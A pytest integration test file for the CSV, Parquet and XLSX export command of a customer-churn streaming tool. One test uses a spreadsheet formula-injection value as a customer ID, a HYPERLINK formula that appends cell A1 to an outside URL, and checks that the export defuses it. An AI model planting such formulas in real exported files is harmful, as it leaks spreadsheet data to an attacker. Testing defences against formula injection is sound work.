"""The customers at risk as a file, from a flow on the embedded broker."""

import csv
from io import StringIO
from pathlib import Path

import pytest
from pyarrow import parquet
from python_calamine import CalamineWorkbook

from builders import event_json
from churnstream.testing.embedded import free_port
from integration.flow import Flow, Sent, until
from integration.test_live_page import get


@pytest.fixture
def scored(flow: Flow) -> Flow:
    """All bundled customers, scored."""
    flow.run("produce --mode batch")
    flow.consume()
    return flow


def rows(text: str) -> list[dict[str, str]]:
    """The customers in a CSV file."""
    return list(csv.DictReader(StringIO(text, newline="")))


def test_every_format_has_the_customers_of_the_report(scored: Flow) -> None:
    """As many as the summary counts, first whose loss is greatest, and the same in each format."""
    churners = scored.summary().predicted_churners
    for name in ("new/a.csv", "a.parquet", "a.xlsx"):
        ran = scored.run("export", "-o", scored.folder / name)
        assert ran.code == 0, ran.err
        target = scored.folder / name
        assert ran.out == f"{churners:,} customers written to {target}, of 7,043 scored\n"
    table = parquet.read_table(scored.folder / "a.parquet")
    listed = rows((scored.folder / "new" / "a.csv").read_text())
    book = CalamineWorkbook.from_path(scored.folder / "a.xlsx").get_sheet_by_index(0).to_python()

    assert table.num_rows == len(listed) == len(book) - 1 == churners
    assert table.column_names == list(listed[0]) == book[0]
    for i, column in ((0, "customerID"), (9, "reasons")):
        values = table.column(column).to_pylist()
        assert values == [row[i] for row in book[1:]] == [row[column] for row in listed]
    losses = table.column("revenue_at_risk").to_pylist()
    assert losses == [float(row["revenue_at_risk"]) for row in listed]
    assert losses == pytest.approx([row[3] for row in book[1:]])  # which has 16 digits of each
    assert losses == sorted(losses, reverse=True)
    for row in table.slice(0, 50).to_pylist():
        assert row["revenue_at_risk"] == row["churn_probability"] * row["MonthlyCharges"]


def test_the_newest_prediction_counts(flow: Flow) -> None:
    """Of each customer the last one, joined with the event that it is of."""
    for charge in (50.0, 60.0):
        event = event_json(customerID="A", MonthlyCharges=charge)
        flow.send([Sent(event, b"A"), Sent(event_json(customerID="B"), b"B")])
        flow.consume()
    ran = flow.run("export", "-o", "-", "--threshold", 0)
    assert {row["customerID"]: row["MonthlyCharges"] for row in rows(ran.out)} == {
        "A": "60",
        "B": "29.85",
    }
    assert ran.err.endswith("2 customers written to stdout, of 2 scored\n")


def test_filters(scored: Flow) -> None:
    """By probability, number, segment and age of the event."""

    def found(*flags: object) -> list[dict[str, str]]:
        ran = scored.run("export", "-o", "-", *flags)
        assert ran.code == 0, ran.err
        return rows(ran.out)

    assert len(found("--threshold", 0)) == 7043
    assert min(float(row["churn_probability"]) for row in found("--threshold", 0.8)) >= 0.8
    assert found("--top", 3) == found()[:3]
    yearly = found("--segment", "Contract=One year", "--segment", "InternetService=DSL")
    assert {(row["Contract"], row["InternetService"]) for row in yearly} == {("One year", "DSL")}
    assert found("--since", "2999-01-01") == []


def test_nobody_at_risk_is_an_answer(flow: Flow) -> None:
    """The file has its names and no row, and a line says so."""
    flow.send([Sent(event_json(tenure=72, Contract="Two year"), b"7590-VHVEG")])
    flow.consume()
    ran = flow.run("export", "-o", flow.folder / "a.csv")
    assert ran.code == 0
    assert ran.out.startswith("0 customers written to ")
    assert rows((flow.folder / "a.csv").read_text()) == []


def test_no_prediction_at_all_is_a_failure(flow: Flow) -> None:
    """It says what the topic holds, and how to fill it; no file is written."""
    flow.send([Sent(b"a stranger")], flow.settings.topics.output)
    ran = flow.run("export", "-o", flow.folder / "a.csv")
    assert ran.code == 1
    assert ran.error.startswith(
        f"no predictions of customers 'telco' in {flow.settings.topics.output} (1 record is none); "
        "make some with: churnstream consume"
    )
    assert not (flow.folder / "a.csv").exists()


def test_strangers_and_hostile_names(flow: Flow) -> None:
    """Foreign records are counted, and a customer's name starts no formula."""
    evil = '=HYPERLINK("http://a.b?"&A1)'
    flow.send([Sent(event_json(customerID=evil), evil.encode())])
    flow.consume()
    flow.send([Sent(b"a stranger"), Sent(b"another")], flow.settings.topics.output)
    ran = flow.run("export", "-o", "-", "--threshold", 0)
    assert [row["customerID"] for row in rows(ran.out)] == [f"'{evil}"]
    topic = flow.settings.topics.output
    assert f"passed over: 2 records in {topic} that are no predictions\n" in ran.err


def test_an_event_that_is_gone_is_named(flow: Flow) -> None:
    """Whose event is not there is listed all the same, without what nobody knows."""
    flow.send([Sent(event_json(), b"7590-VHVEG")])
    flow.consume()
    (made,) = flow.read(flow.settings.topics.output)
    other = (made.value() or b"").replace(b"7590-VHVEG", b"ANOTHER")
    beyond = other.replace(b"ANOTHER", b"BEYOND").replace(
        b'"source_offset":0', b'"source_offset":9'
    )
    flow.send([Sent(other, b"ANOTHER"), Sent(beyond, b"BEYOND")], flow.settings.topics.output)
    ran = flow.run("export", "-o", "-", "--threshold", 0)
    assert [(row["customerID"], row["MonthlyCharges"]) for row in rows(ran.out)] == [
        ("7590-VHVEG", "29.85"),
        ("ANOTHER", ""),
        ("BEYOND", ""),
    ]
    assert f"of 2 at risk the event is no longer in {flow.settings.topics.input}: " in ran.err


def test_the_topic_of_the_newest_is_read_where_it_is_set(
    flow: Flow, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The consumer fills it beside the other; who is removed from it is not exported."""
    newest = f"{flow.settings.topics.output}.newest"
    monkeypatch.setenv("CHURNSTREAM_TOPICS__NEWEST", newest)
    assert flow.run("consume --mode batch").error == (
        f"no topic {newest}; run: churnstream topics create"
    )
    assert f"{newest}: created" in flow.run("topics create").out
    names = ["A", "B", "C"]
    flow.send([Sent(event_json(customerID=name), name.encode()) for name in names])
    flow.consume()
    assert len(flow.read(newest)) == len(flow.predictions()) == 3
    flow.send([Sent(None, b"B")], newest)
    ran = flow.run("export", "-o", "-", "--threshold", 0)
    assert sorted(row["customerID"] for row in rows(ran.out)) == ["A", "C"]
    assert newest in flow.run("topics describe", "--json").out


def test_the_pages_file_is_the_same(scored: Flow) -> None:
    """The live page's CSV of those likely to leave has the rows of the export."""
    exported = rows(scored.run("export", "-o", "-").out)
    port = free_port()
    with scored.process("dashboard", "--port", port):
        until(lambda: "Of 7,043 customers" in get(port)[1])
        status, text = get(port, "/customers.csv?leaving=yes&sort=at_risk")
    assert status == 200
    own = {row["customerID"]: row for row in rows(text)}
    assert own == {row["customerID"]: row for row in exported}


def test_a_file_that_cannot_be_written(scored: Flow, tmp_path: Path) -> None:
    """It is found out before the topics are read."""
    (tmp_path / "file").write_text("")
    ran = scored.run("export", "-o", tmp_path / "file" / "a.csv", "--broker", "127.0.0.1:1")
    assert ran.error.startswith(f"cannot write {tmp_path}/file/a.csv: ")
